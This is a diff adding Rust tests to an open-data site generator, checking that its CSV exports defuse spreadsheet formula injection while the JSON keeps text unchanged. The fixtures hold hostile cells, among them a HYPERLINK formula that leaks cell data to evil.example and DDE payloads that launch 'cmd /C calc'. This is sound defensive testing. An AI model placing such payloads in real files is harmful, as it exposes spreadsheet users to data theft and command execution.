@@ -1,6 +1,7 @@
 //! Open data of the example: the JSON validates against its published JSON Schema, the
 //! CSV files parse with one row per fiche and per sous-action, the iCalendar files parse
-//! with one event per period, and a change in the sources changes the exports.
+//! with one event per period, and a change in the sources changes the exports. Hostile
+//! text stays inert: a formula is not run by a spreadsheet opening a CSV file.
 
 use std::sync::OnceLock;
 
@@ -313,5 +314,166 @@ fn the_feed_needs_an_address_and_a_date() {
     assert_eq!(
         feed.entries()[0].links()[0].href(),
         "https://exemple.fr/essai/action/1-2-1.html"
+    );
+}
+
+/// Replaces `from`, which must be there, in the file `path` of the site `root`.
+fn edit(root: &std::path::Path, path: &str, from: &str, to: &str) {
+    let file = root.join(path);
+    let text = std::fs::read_to_string(&file).unwrap();
+    assert!(text.contains(from), "{path} has no {from:?}");
+    std::fs::write(&file, text.replacen(from, to, 1)).unwrap();
+}
+
+/// The example with hostile text: cells a spreadsheet would run as formulas.
+fn hostile() -> &'static Built {
+    static SITE: OnceLock<Built> = OnceLock::new();
+    SITE.get_or_init(|| {
+        let copy = copy_site(&repo());
+        let root = copy.path();
+        let fa01 = "content/fiches/fa-01.md";
+        edit(
+            root,
+            fa01,
+            "titre: Favoriser l'interconnaissance des acteur·rices et la connaissance des ressources",
+            r#"titre: '=HYPERLINK("https://evil.example/?"&B2;"Voir la fiche")'"#,
+        );
+        edit(
+            root,
+            fa01,
+            "pilotes:\n  - ase-territoires",
+            "pilotes:\n  - libre: \"\\t=1+2\"\n  - ase-territoires",
+        );
+        edit(
+            root,
+            fa01,
+            "Premières rencontres territoriales entre professionnels de la prévention et de la protection.",
+            "+33 1 43 93 93 93 : rappeler le service",
+        );
+        edit(
+            root,
+            fa01,
+            "Bilan présenté au comité technique de l'ODPE.",
+            "- Bilan présenté au comité technique de l'ODPE.",
+        );
+        edit(
+            root,
+            "schema-data/acteurs.yaml",
+            "nom: Conseil départemental de la Seine-Saint-Denis\n",
+            "nom: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
+        );
+        edit(
+            root,
+            "schema-data/indicateurs.yaml",
+            "note: file active depuis le 1er mars 2023",
+            "note: \"-2+3+cmd|' /C calc'!A0\"",
+        );
+        edit(
+            root,
+            "content/pratiques/1a.md",
+            "titre: Conférences familiales",
+            "titre: =1+1 Conférences familiales",
+        );
+        build(root)
+    })
+}
+
+fn hostile_read(path: &str) -> String {
+    std::fs::read_to_string(hostile().out().join(path)).unwrap()
+}
+
+/// The row of a CSV file whose first columns are `key`.
+fn row_of(path: &str, key: &[&str]) -> csv::StringRecord {
+    rows(&hostile_read(path))
+        .into_iter()
+        .find(|r| r.iter().zip(key).all(|(cell, k)| cell == *k))
+        .unwrap_or_else(|| panic!("{path}: no row {key:?}"))
+}
+
+/// Whether a spreadsheet opening the cell would run it as a formula.
+fn runs_as_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn csv_text_a_spreadsheet_would_run_starts_with_a_quote() {
+    let fiche = row_of("donnees/fiches.csv", &["1"]);
+    assert_eq!(
+        &fiche[1],
+        r#"'=HYPERLINK("https://evil.example/?"&B2;"Voir la fiche")"#
+    );
+    assert!(
+        fiche[3].starts_with("'\t=1+2 ; ase-territoires"),
+        "{:?}",
+        &fiche[3]
+    );
+    let acteur = row_of("donnees/acteurs.csv", &["cd93"]);
+    assert_eq!(&acteur[2], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    let suivi = row_of("donnees/suivi.csv", &["1", "", "2019"]);
+    assert_eq!(&suivi[5], "'+33 1 43 93 93 93 : rappeler le service");
+    let sous_action = row_of("donnees/sous-actions.csv", &["1", "2"]);
+    assert_eq!(
+        &sous_action[9],
+        "'- Bilan présenté au comité technique de l'ODPE."
+    );
+    let valeur = row_of(
+        "donnees/valeurs-indicateurs.csv",
+        &["journees-cer", "10 ; 16", "2023"],
+    );
+    assert_eq!(&valeur[10], "'-2+3+cmd|' /C calc'!A0");
+    let pratique = row_of("donnees/pratiques.csv", &["1a"]);
+    assert!(
+        pratique[1].starts_with("'=1+1 Conférences"),
+        "{:?}",
+        &pratique[1]
+    );
+    // No text cell of any file would run: the column's type in the data package decides.
+    let package: serde_json::Value =
+        serde_json::from_str(&hostile_read("donnees/datapackage.json")).unwrap();
+    for resource in package["resources"].as_array().unwrap() {
+        let path = format!("donnees/{}", resource["path"].as_str().unwrap());
+        let fields = resource["schema"]["fields"].as_array().unwrap();
+        for row in rows(&hostile_read(&path)) {
+            for (cell, field) in row.iter().zip(fields) {
+                if field["type"] == "string" {
+                    assert!(
+                        !runs_as_formula(cell),
+                        "{path}, {}: {cell:?}",
+                        field["name"]
+                    );
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn csv_numbers_and_the_json_keep_their_exact_values() {
+    // A negative number is a number, not a formula: it stays as it is.
+    let valeur = row_of(
+        "donnees/valeurs-indicateurs.csv",
+        &["journees-cer", "10 ; 16", "2022"],
+    );
+    assert_eq!(
+        (&valeur[3], &valeur[6], &valeur[7]),
+        ("2019", "3306", "-1287")
+    );
+    assert!(
+        rows(&hostile_read("donnees/valeurs-indicateurs.csv"))
+            .iter()
+            .all(|r| !r[7].starts_with('\''))
+    );
+    // The JSON is not opened by spreadsheets: it keeps the text exactly as written.
+    let data: serde_json::Value =
+        serde_json::from_str(&hostile_read("donnees/schema.json")).unwrap();
+    assert_eq!(
+        data["fiches"][0]["titre"],
+        r#"=HYPERLINK("https://evil.example/?"&B2;"Voir la fiche")"#
+    );
+    assert_eq!(data["fiches"][0]["pilotes"][0]["texte"], "\t=1+2");
+    assert_eq!(data["acteurs"][0]["nom"], "@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(
+        data["indicateurs"][0]["valeurs"][1]["note"],
+        "-2+3+cmd|' /C calc'!A0"
     );
 }
